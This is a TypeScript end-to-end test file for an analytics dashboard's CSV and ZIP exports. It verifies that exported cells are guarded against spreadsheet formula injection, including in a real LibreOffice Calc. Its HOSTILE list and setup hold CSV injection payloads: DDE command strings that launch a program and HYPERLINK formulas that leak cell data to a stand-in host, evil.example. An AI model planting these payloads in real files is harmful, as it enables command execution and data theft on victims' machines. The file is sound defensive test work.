// Exports in real Chromium: "Export CSV" on a card downloads the rows it shows (UTF-8 with a byte-order mark,
// a header row, file name with site, period and actor), every cell a spreadsheet would run as a formula is
// guarded; "Download all (ZIP)" holds one CSV per card with the API's numbers; a filtered shared view's files
// say so in their names; LibreOffice Calc opening an exported CSV makes no formula of any hostile cell.
import { readFile } from "node:fs/promises";
import { unzipSync, strFromU8 } from "fflate";
import type { Download, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { bearer, call, createApiKey, loginAsAdmin } from "../../gateway/test/support/auth.ts";
import { type Stack, startStack } from "./support/stack.ts";
import { openInCalc } from "./support/spreadsheet.ts";
import { apiJson, pageview, visitorUa } from "./support/traffic.ts";

const DOMAIN = "export.example";
/** A site whose event names are all attacks on a spreadsheet, for the LibreOffice test. */
const HOSTILE_SITE = "sheet.export.example";
// What a spreadsheet runs (OWASP's CSV injection list): DDE, a data-leaking link, each formula prefix, and the
// tab and carriage-return prefixes some importers strip before reading the formula.
const HOSTILE = [
  "=cmd|' /C calc'!A0",
  "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")",
  "+SUM(1+2)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+2",
  "\r=1+2",
  "=1+1",
];
let stack: Stack;
let page: Page;

/** RFC 4180, as a spreadsheet's CSV import reads it: the cells of each record. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let cell = "";
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") record.push(cell), (cell = "");
    else if (c === "\r" && text[i + 1] === "\n") record.push(cell), records.push(record), (record = []), (cell = ""), i++;
    else cell += c;
  }
  return records;
}
/** A spreadsheet evaluates a cell that starts with one of these; a guarded one starts with a quote instead. */
const RUNS_AS_FORMULA = /^[=+\-@\t\r]/;
const saved = async (download: Download) => readFile((await download.path())!);

beforeAll(async () => {
  stack = await startStack({ sites: [DOMAIN, HOSTILE_SITE] });
  for (const [i, name] of HOSTILE.entries()) await pageview(stack.gateway.base, HOSTILE_SITE, "/", visitorUa(20 + i), { n: name });
  await pageview(stack.gateway.base, DOMAIN, "/pricing?utm_source=%3D1%2B1&utm_campaign=%40SUM(A1)", visitorUa(1));
  await pageview(stack.gateway.base, DOMAIN, "/", visitorUa(2), { n: "=HYPERLINK(\"https://evil.example\")" });
  await pageview(stack.gateway.base, DOMAIN, "/café", visitorUa(3));
  ({ page } = await stack.open());
  await stack.signIn(page);
  await page.goto(`/app/sites/${DOMAIN}?period=today`);
  await page.locator('[data-testid="breakdown-page"] tbody tr').first().waitFor();
});
afterAll(async () => {
  await stack?.close();
});

describe("Export CSV on a card", () => {
  it.each([
    ["utm_source", "=1+1"],
    ["utm_campaign", "@SUM(A1)"],
    ["event", "=HYPERLINK(\"https://evil.example\")"],
  ])("%s: the rows shown, UTF-8 with a header, no cell a spreadsheet would run", async (field, raw) => {
    // The UTM breakdowns are tabs of the Sources card (issue 23).
    if (field !== "event") await page.locator(`[data-tab="${field}"]`).click();
    const card = page.getByTestId(`breakdown-${field}`);
    await card.locator("tbody tr").first().waitFor();
    const [download] = await Promise.all([page.waitForEvent("download"), card.getByTestId("export-csv").click()]);
    expect(download.suggestedFilename()).toBe(`${DOMAIN}_days-1_human_${field}.csv`);
    const bytes = await saved(download);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records = parseCsv(bytes.toString("utf8").slice(1));
    expect(records[0]).toEqual(["value", "label", "visitors", field === "event" ? "events" : "pageviews", "hits"]);
    const api = await apiJson(stack.gateway.base, `/api/sites/${DOMAIN}/breakdown?field=${field}&days=1&actor=human&limit=10`);
    expect(records.length - 1).toBe(api.rows.length);
    for (const cell of records.flat()) expect(cell, cell).not.toMatch(RUNS_AS_FORMULA);
    expect(records.flat()).toContain(`'${raw}`);
  });

  it("keeps non-ASCII text as UTF-8", async () => {
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByTestId("breakdown-page").getByTestId("export-csv").click()]);
    expect((await saved(download)).toString("utf8")).toContain("/café");
  });
});

describe("Download all (ZIP)", () => {
  it("holds one CSV per card, with the API's numbers", async () => {
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByTestId("export-zip").click()]);
    expect(download.suggestedFilename()).toBe(`${DOMAIN}_days-1_human_all.zip`);
    const files = unzipSync(new Uint8Array(await saved(download)));
    expect(Object.keys(files)).toEqual(expect.arrayContaining(["series.csv", "page.csv", "source.csv", "event.csv", "goals.csv", "ai-traffic.csv"]));
    const pages = parseCsv(strFromU8(files["page.csv"]!).slice(1));
    const api = await apiJson(stack.gateway.base, `/api/sites/${DOMAIN}/breakdown?field=page&days=1&actor=human&limit=1000`);
    expect(pages.slice(1).map((r) => [r[0], Number(r[2]), Number(r[3])])).toEqual(api.rows.map((r: { value: string; visitors: number; pageviews: number }) => [r.value, r.visitors, r.pageviews]));
    for (const [name, content] of Object.entries(files)) for (const cell of parseCsv(strFromU8(content).slice(1)).flat()) expect(cell, name).not.toMatch(RUNS_AS_FORMULA);
  });
});

describe("the CSV in a real spreadsheet (LibreOffice Calc)", () => {
  /** RFC 4180 without any guard: what a naive export would write. */
  const unguarded = (records: string[][]) => `${records.map((r) => r.map((c) => `"${c.replaceAll('"', '""')}"`).join(",")).join("\r\n")}\r\n`;

  it("runs no formula: every hostile cell is text, shown as the export wrote it", async () => {
    const { page: owner } = await stack.open();
    await stack.signIn(owner);
    await owner.goto(`/app/sites/${HOSTILE_SITE}?period=today`);
    const card = owner.getByTestId("breakdown-event");
    await card.locator("tbody tr").nth(HOSTILE.length - 1).waitFor();
    const [download] = await Promise.all([owner.waitForEvent("download"), card.getByTestId("export-csv").click()]);
    const bytes = await saved(download);
    const records = parseCsv(bytes.toString("utf8").slice(1));
    // The gateway kept what a spreadsheet would run: the test's cells reach the export as sent.
    const values = records.slice(1).map((r) => r[0]!);
    for (const raw of HOSTILE) expect(values, JSON.stringify(raw)).toContain(`'${raw}`);

    const sheet = await openInCalc(bytes);
    expect(sheet[0]!.map((c) => c.text)).toEqual(records[0]);
    expect(sheet.flat().filter((c) => c.formula !== null)).toEqual([]);
    // Calc shows each cell's text literally (the guard's quote in front; a carriage return starts a new line).
    const shown = sheet.slice(1).map((row) => row[0]!.text);
    for (const raw of HOSTILE) expect(shown, JSON.stringify(raw)).toContain(`'${raw.replace("\r", "\n")}`);

    // The control: the same cells without the guard make Calc run the "=" ones (DDE, HYPERLINK, =1+1), so the
    // check above would have seen them.
    const naive = records.map((r) => r.map((c) => (c.startsWith("'") && RUNS_AS_FORMULA.test(c.slice(1)) ? c.slice(1) : c)));
    const control = await openInCalc(new TextEncoder().encode(`\ufeff${unguarded(naive)}`));
    const formulas = control.map((row) => row[0]!).filter((c) => c.formula !== null).map((c) => c.formula);
    expect(formulas).toHaveLength(3);
    expect(formulas).toEqual(expect.arrayContaining([expect.stringContaining("HYPERLINK"), expect.stringContaining("cmd|")]));
  });
});

describe("a filtered shared view", () => {
  it("names its filters in the file", async () => {
    const { token } = await loginAsAdmin(stack.gateway.base);
    const admin = bearer(await createApiKey(stack.gateway.base, token, "export admin", "admin"));
    const made = await call(stack.gateway.base, "POST", `/api/sites/${DOMAIN}/shares`, { body: { filters: [["is", "event:page", ["/pricing"]]] }, headers: admin });
    const { page: viewer } = await stack.open();
    await viewer.goto(`/share/${made.json.token}?period=today`);
    const card = viewer.getByTestId("breakdown-page");
    await card.locator("tbody tr").first().waitFor();
    expect(await card.locator("tbody tr").count()).toBe(1);
    const [download] = await Promise.all([viewer.waitForEvent("download"), card.getByTestId("export-csv").click()]);
    expect(download.suggestedFilename()).toBe(`${DOMAIN}_days-1_human_filtered-is-event-page-pricing_page.csv`);
    expect(parseCsv((await saved(download)).toString("utf8").slice(1)).slice(1).map((r) => r[0])).toEqual(["/pricing"]);
  });
});
